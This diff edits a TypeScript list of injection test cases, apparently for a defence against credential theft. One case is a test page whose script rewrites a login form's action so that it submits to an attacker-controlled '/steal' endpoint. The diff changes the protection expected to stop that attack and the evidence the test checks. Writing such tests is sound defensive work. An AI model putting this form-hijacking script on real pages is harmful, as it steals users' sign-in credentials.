@@ -97,11 +97,11 @@ export const injectionCases: readonly InjectionCase[] = [
   {
     tries: 'changes the action of its form when its button is pressed',
     isRepeated: true,
-    stoppedBy: 'allowed domains',
+    stoppedBy: 'secret binding',
     page: ({ attacker }) =>
       `${form('/session')}<script>document.forms[0].onsubmit = () => { document.forms[0].action = '${attacker}/steal'; };</script>`,
     steps: [signIn],
-    evidence: noHost,
+    evidence: refusedSecret,
   },
   {
     tries: 'asks for the password in a frame of another origin',
